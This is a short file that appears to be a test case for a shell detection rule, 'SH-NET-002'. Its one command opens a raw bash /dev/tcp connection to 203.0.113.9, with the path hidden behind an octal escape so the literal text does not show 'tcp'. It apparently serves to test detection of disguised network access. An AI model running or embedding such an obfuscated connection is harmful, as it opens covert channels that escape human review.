# rule: SH-NET-002
# attempts: Network is unreachable
# $'\164' is t: the literal a reader sees is not the path bash opens
cat < $'/dev/\164cp/203.0.113.9/80'
